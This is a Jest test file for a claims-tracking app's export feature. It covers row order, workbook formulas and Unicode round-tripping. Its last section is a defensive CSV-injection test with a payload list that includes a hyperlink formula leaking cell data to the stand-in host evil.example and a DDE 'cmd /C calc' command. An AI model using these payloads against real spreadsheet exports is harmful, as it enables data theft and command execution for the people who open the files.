import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { ClaimRow, ExportFormat, ExportOf, StatementView } from '#contracts';
import { ExportView, ReadLedgers, type ExportQuery } from '#usecases';
import { readWorkbook, type Cell } from '../support/read-workbook.js';
import { callsOf } from './house/calls.js';
import { openHouse, type House } from './house/open-house.js';

let house: House;
/** Where another than `house` reads. */
let reading: House | null = null;
beforeAll(async () => {
  house = await openHouse();
  await house.startWorker();
  for (const company of ['harbour', 'meadow']) for (const upload of callsOf(company)) await house.send(upload);
});
afterAll(() => house.close());

const BASE = 'http://127.0.0.1:4680';

async function exported(of: ExportOf, format: ExportFormat, filter: object = {}): Promise<Buffer> {
  const file = await (reading ?? house).app.get(ExportView).run({ of, format, filter, base: BASE } as ExportQuery);
  const pieces: Uint8Array[] = [];
  for await (const piece of file.bytes) pieces.push(piece);
  return Buffer.concat(pieces);
}

type Record_ = Readonly<Record<string, string>>;
const csvOf = async (of: ExportOf, filter = {}): Promise<Record_[]> =>
  parse((await exported(of, 'csv', filter)).toString('utf8'), { bom: true, columns: true });
const jsonOf = async <Row>(of: ExportOf, filter = {}): Promise<Row[]> =>
  JSON.parse((await exported(of, 'json', filter)).toString('utf8'))[of];

async function sheetOf(of: ExportOf, filter = {}) {
  const { rows, sheet } = readWorkbook(await exported(of, 'xlsx', filter));
  const [header = [], ...data] = rows;
  const names = header.map((cell) => cell?.text ?? '');
  const cells = data.map((row) => new Map(names.map((name, at): [string, Cell | null] => [name, row[at] ?? null])));
  return { names, cells, sheet };
}

describe('an export', () => {
  it.each(['csv', 'json'] as const)(
    'as %s has exactly the rows of the filtered list, in its order, all pages',
    async (format) => {
      const filters = [
        {},
        { company: 'meadow' },
        { q: 'capital' },
        { result: 'met', sort: 'window_end' as const },
        { to: '2024-05-01' },
      ];
      for (const filter of filters) {
        const listed = (await house.read.claims({ ...filter, limit: 200 })).data.map(({ id }) => id);
        const rows = format === 'csv' ? await csvOf('claims', filter) : await jsonOf<ClaimRow>('claims', filter);
        expect(rows.map(({ id }) => id)).toEqual(listed);
        expect(listed.length).toBeGreaterThan(0);
      }
    },
  );

  it('of each view has its rows', async () => {
    const statements = (await house.read.listStatements({ company: 'meadow' })).data;
    expect((await jsonOf<StatementView>('statements', { company: 'meadow' })).map(({ quote }) => quote)).toEqual(
      statements.map(({ quote }) => quote),
    );
    expect((await csvOf('statements', { modality: 'expectation' })).length).toBeGreaterThan(0);
    expect(
      (await csvOf('observations', { company: 'meadow', sort: 'period_end' })).map((row) => row.period_end),
    ).toEqual([...(await csvOf('observations', { company: 'meadow' })).map((row) => row.period_end)].sort());
    expect((await csvOf('verdicts', { company: 'meadow' })).length).toBeGreaterThan(3);
    const due = await csvOf('due', { company: 'meadow' });
    expect(due.every(({ question_en }) => question_en !== '')).toBe(true);
    const comparison = await house.app.get(ReadLedgers).comparison({ company: 'meadow' });
    const rows = await csvOf('comparison', { company: 'meadow' });
    expect(rows.map(({ change }) => change)).toEqual(comparison.rows.map(({ change }) => change.absolute ?? ''));
    expect(JSON.parse((await exported('comparison', 'json', { company: 'meadow' })).toString()).comparison).toEqual(
      JSON.parse(JSON.stringify(comparison)),
    );
  });

  it('as a workbook has numbers, days, links, and formulas that work the difference out again', async () => {
    const { names, cells, sheet } = await sheetOf('claims', { company: 'meadow', metric: 'revenue', sort: 'said_on' });
    const [first] = cells;
    expect(first!.get('target_low')).toEqual({ number: 430_000_000 });
    expect(first!.get('actual')).toEqual({ number: 444_000_000 });
    expect(first!.get('difference')).toEqual({ number: 14_000_000 });
    const [from, to] = ['compared', 'actual'].map((name) => `${letters(names.indexOf(name))}2`);
    expect(first!.get('difference_check')).toEqual({
      formula: `IF(AND(ISNUMBER(${from}),ISNUMBER(${to})),${to}-${from},"")`,
    });
    expect(first!.get('said_on')).toEqual({ number: (Date.UTC(2024, 3, 25) - Date.UTC(1899, 11, 30)) / 86_400_000 });
    const id = first!.get('id')!.text;
    expect(first!.get('evidence')).toEqual({ formula: `HYPERLINK("${BASE}/v1/claims/${id}/evidence","open")` });
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/);
    const compared = await sheetOf('comparison', { company: 'meadow' });
    const formula = compared.cells
      .map((row) => row.get('change_percent_check')?.formula)
      .find((one) => one !== undefined);
    expect(formula).toMatch(
      /^IF\(AND\(ISNUMBER\(F\d+\),ISNUMBER\(K\d+\)\),IF\(F\d+=0,"",\(K\d+-F\d+\)\/ABS\(F\d+\)\*100\),""\)$/,
    );
  });

  it('as Markdown is one table with both quotes', async () => {
    const lines = (await exported('claims', 'md', { company: 'meadow', result: 'met' }))
      .toString('utf8')
      .trim()
      .split('\n');
    const cells = lines.map((line) => line.split(' | ').length);
    expect(new Set(cells).size).toBe(1);
    expect(lines.length).toBe(3);
    expect(lines[2]).toContain('430 million');
    expect(lines[2]).toContain('444 million');
  });

  it('says what is wrong instead of beginning', async () => {
    await expect(exported('verdicts', 'csv')).rejects.toMatchObject({ code: 'bad_option' });
    await expect(exported('comparison', 'xlsx', { company: 'nobody' })).rejects.toMatchObject({
      code: 'unknown_company',
    });
    await expect(exported('claims', 'json', { q: '?' })).rejects.toMatchObject({ code: 'bad_option' });
  });

  it('keeps what was said, character for character, also beyond the first plane', async () => {
    const odd = '🚀 𠮷野家 "quoted", a|b\n第二行 <b>&amp;</b>';
    await house.sql(`UPDATE claim SET said = $1`, [odd]);
    expect((await csvOf('claims')).map(({ said }) => said)).toEqual(Array((await csvOf('claims')).length).fill(odd));
    expect((await jsonOf<ClaimRow>('claims'))[0]!.said).toBe(odd);
    expect((await sheetOf('claims')).cells[0]!.get('said')).toEqual({ text: odd });
  });
});

const letters = (column: number): string =>
  column < 26 ? String.fromCharCode(65 + column) : letters(Math.floor(column / 26) - 1) + letters(column % 26);

/** What spreadsheets have been made to run: https://owasp.org/www-community/attacks/CSV_Injection */
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '";=1+1',
  '=1+1"\n=2+2',
  '%0A=1+1',
];
const FORMULA = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u;
const VIEWS: readonly (readonly [ExportOf, object])[] = [
  ['claims', {}],
  ['statements', {}],
  ['observations', {}],
  ['verdicts', { company: 'meadow' }],
  ['due', {}],
  ['due', { company: 'meadow' }],
  ['comparison', { company: 'meadow' }],
];

/** Every text that is stored, and comes from outside or from what was read there, replaced by the payload. */
async function poison(payload: string): Promise<void> {
  const json = JSON.stringify(payload);
  const set = (column: string, ...path: string[]) =>
    path.reduce((sum, one) => `jsonb_set(${sum}, '{${one}}', $2::jsonb, false)`, column);
  await house.sql(`UPDATE company SET name = $1`, [payload]);
  await house.sql(`UPDATE document SET name = $1`, [payload]);
  await house.sql(
    `UPDATE claim SET summary = $1, said = $1, happened = $1, event = $1, revisions = jsonb_build_array($1::text),
      frame = ${set('frame', 'summary', 'event', 'scope', 'target,raw', 'target,comparison,to', 'horizon,text')}`,
    [payload, json],
  );
  await house.sql(
    `UPDATE current_verdict SET verdict = ${set('verdict', 'explanation', 'rule').replaceAll('$2', '$1')}`,
    [json],
  );
  await house.sql(
    `UPDATE statement SET event = $1, frame = ${set('frame', 'speaker,name', 'speaker,title', 'scope', 'event', 'target,raw', 'target,comparison,to', 'horizon,text')} || jsonb_build_object('conditions', jsonb_build_array($1::text))`,
    [payload, json],
  );
  await house.sql(
    `UPDATE observation SET frame = ${set('frame', 'scope', 'period,label')} || jsonb_build_object('qualifiers', jsonb_build_array($1::text))`,
    [payload, json],
  );
  await house.sql(
    `UPDATE document_text t SET body = (
      SELECT string_agg(coalesce(o.sign, b.sign), '' ORDER BY b.place)
      FROM regexp_split_to_table(t.body, '') WITH ORDINALITY AS b (sign, place)
      LEFT JOIN (
        SELECT DISTINCT s.start_offset + p.at AS place, p.sign FROM document d
        JOIN (SELECT run_id, start_offset FROM statement UNION SELECT run_id, start_offset FROM observation) s ON s.run_id = d.current_run_id
        CROSS JOIN regexp_split_to_table($1, '') WITH ORDINALITY AS p (sign, at)
        WHERE d.company_id = t.company_id AND d.content_hash = t.content_hash AND p.at = 1
      ) o ON o.place = b.place)`,
    [payload],
  );
}

describe('formulas in every stored text', () => {
  it.each(PAYLOADS)('%j stay text in every export', async (payload) => {
    await poison(payload);
    // Texts are remembered under their hash, and here they change under it.
    const reader = await openHouse(null, undefined, { url: house.config.databaseUrl, drop: async () => undefined });
    reading = reader;
    let seen = 0;
    for (const [of, filter] of VIEWS) {
      const csv = await csvOf(of, filter);
      expect([of, filter, csv.length > 0]).toEqual([of, filter, true]);
      for (const row of csv)
        for (const [name, cell] of Object.entries(row)) {
          expect(FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell) ? [of, name, cell] : null).toBeNull();
          if (cell.includes(payload)) seen += 1;
        }
      for (const row of (await sheetOf(of, filter)).cells)
        for (const cell of row.values())
          if (cell?.formula !== undefined)
            expect(cell.formula).toMatch(/^(?:HYPERLINK\("http:\/\/127|IF\(AND\(ISNUMBER)/);
      const table = (await exported(of, 'md', filter)).toString('utf8');
      for (const line of table.trim().split('\n').slice(2))
        for (const cell of line.slice(2, -2).split(' | '))
          expect(FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell) ? cell : null).toBeNull();
    }
    expect(seen).toBeGreaterThan(10);
    await reader.close();
  });
});
